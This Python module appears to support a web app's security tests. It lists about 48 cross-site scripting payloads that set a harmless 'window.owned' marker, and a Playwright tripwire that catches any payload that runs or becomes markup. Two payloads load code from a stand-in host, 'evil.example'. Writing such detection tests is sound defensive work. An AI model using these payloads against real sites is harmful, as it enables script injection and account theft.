"""Script payloads, and a tripwire that reports any of them that runs or becomes an element."""

from dataclasses import dataclass, field

from playwright.sync_api import BrowserContext, Page

# What a payload does if it runs; the tripwire watches the property.
MARK = "window.owned=1"
_ENCODED = "".join(f"&#{ord(letter)};" for letter in MARK)
_BASE64 = "PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg=="

# Those that run wherever a text becomes markup, with their context: an element, an attribute, a script, a template.
PAYLOADS = (
    f'<img src=x onerror="{MARK}">',
    f'"><svg onload="{MARK}">',
    f"</script><script>{MARK}</script>",
    f"${{{MARK}}}{{{{constructor.constructor('{MARK}')()}}}}",
    f'<a href="javascript:{MARK}">a</a>',
    f"' autofocus onfocus={MARK} x='",
    f"</title></textarea></style><svg/onload={MARK}>",
    f"javascript:{MARK}//",
    '<iframe srcdoc="<script>parent.owned=1</script>">',
    f"';{MARK};'",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={MARK}>",
    f'[a](javascript:{MARK}) ![b](x"onerror="{MARK})',
    # The soak adds these.
    f"<script>{MARK}</script>",
    f"<ScRiPt >{MARK}</sCrIpT>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<img src=x onerror={_ENCODED}>",
    f"<svg><script>{_ENCODED}</script></svg>",
    f'<body onload="{MARK}">',
    f"<details open ontoggle={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<audio src=x onerror={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}>",
    f"<marquee onstart={MARK}>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={MARK}>",
    f"<object data=data:text/html;base64,{_BASE64}></object>",
    f"<embed src=data:text/html;base64,{_BASE64}>",
    "<iframe src=javascript:parent.owned=1>",
    f"<form action=javascript:{MARK}><button>a</button></form>",
    "<base href=//evil.example/><script src=a.js></script>",
    f"<meta http-equiv=refresh content=0;url=javascript:{MARK}>",
    f"<link rel=stylesheet href=//evil.example/a.css onerror={MARK}>",
    f"<svg><a xlink:href=javascript:{MARK}><text y=9>a</text></a></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    f'<template><img src=x onerror={MARK}></template><xmp><p title="</xmp><svg onload={MARK}>">',
    f'"-({MARK})-"',
    f'\\"-({MARK})//',
    f"`-({MARK})-`",
    f"--><svg onload={MARK}>",
    f"]]><svg onload={MARK}>",
    f"%3Csvg%20onload={MARK}%3E",
    f"\\u003csvg onload={MARK}\\u003e",
    f"&lt;svg onload={MARK}&gt;",
    f"<\u0000svg onload={MARK}>".replace("\u0000", "\ufffd"),
    f"\u202e<svg onload={MARK}>\u2066",
    f"＜svg onload={MARK}＞",
    f"<b>x</b><!--<img src=--><img src=x onerror={MARK}//>",
)
N_IN_SUITE = 12
# What a payload leaves in a document if it became markup without running.
INJECTED = (
    "img[src=x], svg[onload], [onerror], [onload], [onfocus], [ontoggle], [onstart], [onbegin], [onanimationstart], "
    "iframe[srcdoc], a[href^='javascript:' i], form[action^='javascript:' i], iframe[src^='javascript:' i], "
    "object, embed, base[href*=evil], meta[http-equiv=refresh i]"
)
_TRIPWIRE = """
Object.defineProperty(window, "owned", { set: () => console.error("tripwire: a payload ran"), get: () => undefined });
document.addEventListener("securitypolicyviolation", (event) =>
  console.error(`tripwire: ${event.violatedDirective} of ${event.blockedURI} at ${event.sourceFile}`));
"""
_ALL_CALLBACKS = "new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"


@dataclass
class Tripwire:
    """What the pages of a browser context did that no page may do: run a payload, show a dialog, break the policy."""

    context: BrowserContext
    reports: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.context.add_init_script(_TRIPWIRE)
        self.context.on("console", lambda message: self._report(message.text))
        self.context.on("dialog", self._dismiss)

    def _report(self, text: str) -> None:
        if text.startswith("tripwire:"):
            self.reports.append(text)

    def _dismiss(self, dialog: object) -> None:
        self.reports.append(f"dialog {dialog}")
        dialog.dismiss()  # type: ignore[attr-defined]

    def inspect(self, page: Page) -> list[str]:
        """Return the reports since the last call, and the elements that a payload has become."""
        # After two frames all scheduled callbacks have run.
        page.evaluate(_ALL_CALLBACKS)
        found = page.evaluate(
            "(signs) => [...document.querySelectorAll(signs)].map((one) => one.outerHTML.slice(0, 200))", INJECTED
        )
        reports, self.reports = self.reports, []
        return [*reports, *(f"element {one}" for one in found)]
